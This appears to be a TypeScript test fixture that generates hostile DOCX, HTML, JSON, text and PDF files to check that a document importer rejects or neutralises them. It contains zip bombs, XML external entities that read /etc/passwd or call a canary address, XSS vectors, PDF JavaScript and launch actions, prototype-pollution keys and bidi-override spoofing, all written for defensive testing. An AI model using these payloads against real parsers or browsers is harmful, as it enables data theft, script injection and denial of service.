// Files that were made to do harm, each with what must come of it: a message, or a meeting without the harm. `canary` is
// an address that must never be asked for.
import { deflateSync } from 'node:zlib';
import { strToU8, type Zippable, zipSync } from 'fflate';
import { pdfOfObjects, pdfStream, pdfText } from '../importers/pdf-files.ts';

/** A file with what must come of it. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  /** Bytes; or so many letters on one line, made in the page. */
  readonly content: string | Uint8Array | { readonly letters: number };
  /** What the refusal says; null where the rest is read as a meeting that has an item of this name. */
  readonly refusal: RegExp | null;
}

/** The item that every file has which is read. */
const ITEM = 'Lights of the harbours';

const LINES = [
  'Working Group on Ports',
  'Geneva, 5 June 2028',
  'Provisional agenda',
  '1. Opening of the meeting.',
  `2. ${ITEM}.`,
  'Proposed organization of work',
  'Monday, 5 June',
  '10 a.m.-1 p.m.',
  '1 Opening of the meeting',
  `2 ${ITEM}`,
];

const TEXT = LINES.join('\n');

/** The files, the item that those have which are read, and a file that means well. */
export function hostileFiles(canary: string): {
  readonly item: string;
  readonly files: readonly HostileFile[];
  readonly sound: Pick<HostileFile, 'name' | 'content'>;
} {
  const files = [...archives(canary), ...pages(canary), ...texts(canary), ...portable(canary)];
  return { item: ITEM, files, sound: { name: 'sound.txt', content: TEXT } };
}

const paragraphs = (lines: readonly string[]): string =>
  lines.map((line) => `<w:p><w:r><w:t>${line}</w:t></w:r></w:p>`).join('');

const word = (body: string, parts: Zippable = {}, before = ''): Uint8Array =>
  zipSync({
    '[Content_Types].xml': strToU8('<Types/>'),
    'word/document.xml': strToU8(`<?xml version="1.0"?>${before}<w:document><w:body>${body}</w:body></w:document>`),
    ...parts,
  });

/** An archive whose headers state other sizes than its parts have. */
function lying(archive: Uint8Array, size: number): Uint8Array {
  const bytes = Uint8Array.from(archive);
  const view = new DataView(bytes.buffer);
  for (let at = 0; at + 4 < bytes.length; at++) {
    const signature = view.getUint32(at, true);
    if (signature === 0x04034b50) view.setUint32(at + 22, size, true);
    if (signature === 0x02014b50) view.setUint32(at + 24, size, true);
  }
  return bytes;
}

function archives(canary: string): HostileFile[] {
  const swelling = word(`<w:p><w:r><w:t>${'x'.repeat(40_000_000)}</w:t></w:r></w:p>`);
  const entities = [
    '<!DOCTYPE w:document [<!ENTITY a "lol">',
    ...Array.from('bcdefghij', (name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`),
    `<!ENTITY web SYSTEM "${canary}/entity"><!ENTITY file SYSTEM "file:///etc/passwd">`,
    `<!ENTITY % all SYSTEM "${canary}/parameter.dtd"> %all;]>`,
  ].join('\n');
  const relations = (list: readonly string[]): Uint8Array => strToU8(`<Relationships>${list.join('')}</Relationships>`);
  const relation = (id: string, kind: string, target: string): string =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`;
  const link = (id: string): string => `<w:p><w:hyperlink r:id="${id}"><w:r><w:t>${id}</w:t></w:r></w:hyperlink></w:p>`;
  const many = Object.fromEntries(Array.from({ length: 6000 }, (_, at) => [`word/part${at}.xml`, new Uint8Array()]));
  return [
    { what: 'an archive that swells to 40 MB', name: 'bomb.docx', content: swelling, refusal: /MB/ },
    { what: 'one that states it were 10 bytes', name: 'lie.docx', content: lying(swelling, 10), refusal: /MB/ },
    {
      what: 'one that states 4 GB',
      name: 'boast.docx',
      content: lying(word(paragraphs(LINES)), 0xfffffff0),
      refusal: /MB/,
    },
    {
      what: 'one of six thousand parts',
      name: 'parts.docx',
      content: word(paragraphs(LINES), many),
      refusal: /5,?000 parts/,
    },
    {
      what: 'archives in archives',
      name: 'nested.docx',
      content: zipSync({ 'word/document.xml': zipSync({ 'word/document.xml': swelling }) }),
      refusal: /Neither an agenda|broken/,
    },
    {
      what: 'tables in tables a hundred thousand deep',
      name: 'deep.docx',
      content: word('<w:tbl><w:tr><w:tc>'.repeat(100_000)),
      refusal: /deeper/,
    },
    {
      what: 'entities that swell, and that name files and addresses',
      name: 'entities.docx',
      content: word(paragraphs([...LINES, '&j; &web; &file;']), {}, entities),
      refusal: null,
    },
    {
      what: 'a template, pictures and links elsewhere',
      name: 'outside.docx',
      content: word(
        `${paragraphs(LINES)}${['script', 'data', 'file', 'web'].map(link).join('')}<w:drawing><a:blip r:link="picture"/></w:drawing><w:altChunk r:id="chunk"/><w:subDoc r:id="sub"/>`,
        {
          'word/_rels/document.xml.rels': relations([
            relation('script', 'hyperlink', 'javascript:window.harmed=true'),
            relation('data', 'hyperlink', 'data:text/html,harm'),
            relation('file', 'hyperlink', 'file:///etc/passwd'),
            relation('web', 'hyperlink', `${canary}/link`),
            relation('picture', 'image', `${canary}/picture.png`),
            relation('chunk', 'aFChunk', `${canary}/chunk.html`),
            relation('sub', 'subDocument', `${canary}/sub.docx`),
          ]),
          'word/_rels/settings.xml.rels': relations([relation('t', 'attachedTemplate', `${canary}/template.dotm`)]),
          'word/vbaProject.bin': strToU8('Sub AutoOpen()'),
        },
      ),
      refusal: null,
    },
  ];
}

function pages(canary: string): HostileFile[] {
  const body = LINES.map((line) => `<p>${line}</p>`).join('');
  return [
    {
      what: 'scripts, handlers, frames, pictures, styles and refreshes in a web page',
      name: 'page.html',
      content: `<!doctype html><base href="${canary}/"><meta http-equiv=refresh content="0;url=${canary}/away">
        <link rel=stylesheet href="${canary}/a.css"><link rel=preload as=image href="${canary}/p.png">
        <style>@import "${canary}/b.css"; body{background:url(${canary}/bg.png);position:fixed;inset:0;z-index:9999}</style>
        <script>window.harmed=true</script><script src="${canary}/a.js"></script>
        <body onload="window.harmed=true" background="${canary}/back.png">${body}
        <img src="${canary}/pixel.gif" onerror="window.harmed=true"><img src=x onerror=window.harmed=true>
        <svg onload="window.harmed=true"><image href="${canary}/s.png"/><script>window.harmed=true</script></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.harmed=true&gt;"></table></mtext></math>
        <iframe src="${canary}/frame"></iframe><object data="${canary}/o"></object><embed src="${canary}/e">
        <video src="${canary}/v" poster="${canary}/poster"></video><audio src="${canary}/a"></audio>
        <form id=body name=documentElement action="${canary}/form"><input name=nodeName autofocus onfocus="window.harmed=true"></form>
        <a href="javascript:window.harmed=true">harm</a><a href=" java&#10;script:window.harmed=true">harm</a>
        <a href="data:text/html,<script>window.harmed=true</script>">harm</a><a ping="${canary}/ping" href="vbscript:x">harm</a>
        <p style="background:url(${canary}/style.png)">styled</p><portal src="${canary}/portal"></portal>`,
      refusal: null,
    },
    {
      what: 'a web page a hundred thousand elements deep',
      name: 'deep.html',
      content: `<!doctype html>${'<div>'.repeat(100_000)}${body}`,
      refusal: /deeper/,
    },
    {
      what: 'cells that span a thousand million columns',
      name: 'span.html',
      content: `<!doctype html>${body}<table>${`<tr><td colspan=1000000000 rowspan=1000000000>1<td colspan=-5>2<td rowspan=NaN>3`.repeat(200)}</table>`,
      refusal: null,
    },
    {
      what: 'a table of a hundred and twenty thousand cells',
      name: 'cells.html',
      content: `<!doctype html>${body}<table>${`<tr>${'<td>x'.repeat(800)}`.repeat(150)}</table>`,
      refusal: /lines/,
    },
  ];
}

function texts(canary: string): HostileFile[] {
  const title = (text: string): string =>
    JSON.stringify({
      format: 'rostrum-meeting/1',
      id: 'hostile',
      revision: 1,
      languages: ['en'],
      bodies: [{ id: 'A', name: { en: 'Body' } }],
      start: '2028-06-05',
      end: '2028-06-05',
      agenda: [{ id: 'A/1', body: 'A', number: '1', title: { en: 'TITLE' }, jointWith: [], documents: [] }],
      documents: [],
      slots: [],
      constraints: {},
    }).replace('TITLE', text);
  return [
    { what: 'a line of 50 MB', name: 'line.txt', content: { letters: 50_000_000 }, refusal: /20 MB/ },
    { what: 'a line of 7 MB', name: 'words.txt', content: { letters: 7_000_000 }, refusal: /5 MB/ },
    { what: 'brackets without end', name: 'open.json', content: `{"a":${'['.repeat(200_000)}`, refusal: /line 1/ },
    {
      what: 'brackets that close again, two hundred thousand deep',
      name: 'deep.json',
      content: `{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
      refusal: /depth/,
    },
    {
      what: 'keys that reach for prototypes',
      name: 'prototype.json',
      content: title(ITEM).replace('{', '{"__proto__":{"harmed":true},"constructor":{"prototype":{"harmed":true}},'),
      refusal: null,
    },
    { what: 'half a character, escaped', name: 'half.json', content: title('\\ud83d'), refusal: /agenda\[0\]/ },
    { what: 'NUL in a text', name: 'nul.txt', content: `${TEXT}\n\0`, refusal: /line 11/ },
    {
      what: 'halves of characters in UTF-16',
      name: 'half-utf16.txt',
      content: Buffer.from(`\ufeff${TEXT}\n\ud83d alone`, 'utf16le'),
      refusal: /no readable text/,
    },
    {
      what: 'letters that turn the reading direction',
      name: 'direction.txt',
      content: `${TEXT}\n\u202e\u2066exe.txt\u202d ${'\u202b'.repeat(500)}`.replaceAll(
        'harbours',
        'har\u202ebours\u202c',
      ),
      refusal: null,
    },
    {
      what: 'markup and links in a text',
      name: 'links.txt',
      content: `${TEXT}\n[harm](javascript:window.harmed=true) <img src=${canary}/t.png onerror=window.harmed=true>\n![x](${canary}/md.png)`,
      refusal: null,
    },
  ];
}

/** A PDF file whose one page says or draws the same again and again. */
function swellingPdf(what: string, times: number): Uint8Array {
  const content = deflateSync(Buffer.from(`BT /F1 12 Tf ${what.repeat(times)} ET`));
  return pdfOfObjects([
    '<</Type/Catalog/Pages 2 0 R>>',
    ONE_PAGE,
    `${PAGE}>>`,
    pdfStream(content, '/Filter/FlateDecode'),
    FONT,
  ]);
}

const ONE_PAGE = '<</Type/Pages/Count 1/Kids[3 0 R]>>';
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>';

function portable(canary: string): HostileFile[] {
  const script = '<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\(1\\))>>';
  const catalogue = '<</Type/Catalog/Pages 2 0 R';
  const acting = pdfOfObjects([
    `${catalogue}/OpenAction ${script}/AA<</WC ${script}>>/URI<</Base(${canary}/)>>/AcroForm<</XFA(<xdp><template><subform><draw><value><image href="${canary}/xfa.png"/></value></draw></subform></template></xdp>)/Fields[]>>/Names<</JavaScript<</Names[(a) ${script}]>>>>>>`,
    ONE_PAGE,
    `${PAGE}/AA<</O ${script}>>/Annots[${[
      `<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A<</S/URI/URI(javascript:window.harmed=true)>>>>`,
      `<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A<</S/Launch/F(${canary}/launch)>>>>`,
      `<</Type/Annot/Subtype/Link/Rect[0 0 600 900]/A<</S/SubmitForm/F<</FS/URL/F(${canary}/submit)>>>>>>`,
      `<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/GoToR/F(${canary}/other.pdf)>>/AA<</PO ${script}>>>>`,
    ].join('')}]>>`,
    pdfStream(`${pdfText(LINES)} /I1 Do`),
    FONT,
  ]);
  const fonts = pdfOfObjects([
    `${catalogue}>>`,
    ONE_PAGE,
    `${PAGE.replace('<</F1 5 0 R>>', '<</F1 5 0 R/F2 6 0 R>>/XObject<</I1 8 0 R>>')}>>`,
    pdfStream(`${pdfText(LINES)} BT /F2 9 Tf 60 90 Td (x) Tj ET /I1 Do`),
    FONT,
    '<</Type/Font/Subtype/Type1/BaseFont/Harm/FontMatrix[1 0 0 1 0 (0\\); window.harmed=true; \\()]/FontDescriptor 7 0 R/FirstChar 120/LastChar 120/Widths[500]>>',
    `<</Type/FontDescriptor/FontName/Harm/Flags 4/FontFile 9 0 R>>`,
    pdfStream(
      '',
      `/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(${canary}/image.jpg)>>/FFilter/DCTDecode`,
    ),
    pdfStream(
      '%!PS-AdobeFont-1.0\n/FontMatrix [1 0 0 1 0 (0); window.harmed=true; (] def\ncurrentfile eexec',
      `/F<</FS/URL/F(${canary}/font)>>/Length1 80/Length2 0/Length3 0`,
    ),
  ]);
  const kids = Array.from({ length: 10_000 }, () => '3 0 R').join(' ');
  const locked = `/Encrypt<</Filter/Standard/V 1/R 2/O<${'5a'.repeat(32)}>/U<${'a5'.repeat(32)}>/P -4>>/ID[<00><00>]`;
  return [
    { what: 'actions, forms and scripts in a PDF', name: 'acting.pdf', content: acting, refusal: null },
    { what: 'fonts with code and pictures elsewhere in a PDF', name: 'fonts.pdf', content: fonts, refusal: null },
    {
      what: 'a PDF of ten thousand pages',
      name: 'pages.pdf',
      content: pdfOfObjects([
        `${catalogue}>>`,
        `<</Type/Pages/Count 10000/Kids[${kids}]>>`,
        `${PAGE}>>`,
        pdfStream(pdfText(LINES)),
        FONT,
      ]),
      refusal: /1,?000 pages/,
    },
    {
      what: 'a PDF whose page swells to 600,000 words',
      name: 'words.pdf',
      content: swellingPdf('1 1 Td (x) Tj ', 600_000),
      refusal: /300,?000 parts/,
    },
    {
      what: 'a PDF whose page swells to 600,000 strokes',
      name: 'strokes.pdf',
      content: swellingPdf('1 1 m 9 9 l S ', 600_000),
      refusal: /300,?000 parts/,
    },
    {
      what: 'a PDF that states a thousand million pages',
      name: 'boast.pdf',
      content: pdfOfObjects([
        `${catalogue}>>`,
        '<</Type/Pages/Count 1000000000/Kids[3 0 R]>>',
        `${PAGE}>>`,
        pdfStream(pdfText(LINES)),
        FONT,
      ]),
      refusal: null,
    },
    {
      what: 'pages of a PDF that lie in themselves',
      name: 'ring.pdf',
      content: pdfOfObjects([`${catalogue}>>`, '<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]>>']),
      refusal: /PDF|pictures/,
    },
    {
      what: 'a locked PDF',
      name: 'locked.pdf',
      content: pdfOfObjects([`${catalogue}>>`, ONE_PAGE, `${PAGE}>>`, pdfStream(pdfText(LINES)), FONT], locked),
      refusal: /password/,
    },
    {
      what: 'a PDF of pictures',
      name: 'scan.pdf',
      content: pdfOfObjects([
        `${catalogue}>>`,
        ONE_PAGE,
        PAGE.replace(/<<\/Font.*/, '<</XObject<</I1 5 0 R>>>>>>'),
        pdfStream('q 595 0 0 842 0 0 cm /I1 Do Q'),
        pdfStream(
          Buffer.alloc(64),
          '/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray',
        ),
      ]),
      refusal: /pictures/,
    },
    {
      what: 'a PDF of arrays in arrays',
      name: 'deep.pdf',
      content: pdfOfObjects([
        `${catalogue}>>`,
        ONE_PAGE,
        `${PAGE}/Annots ${'['.repeat(200_000)}>>`,
        pdfStream(pdfText(LINES)),
        FONT,
      ]),
      refusal: /PDF|pictures/,
    },
  ];
}
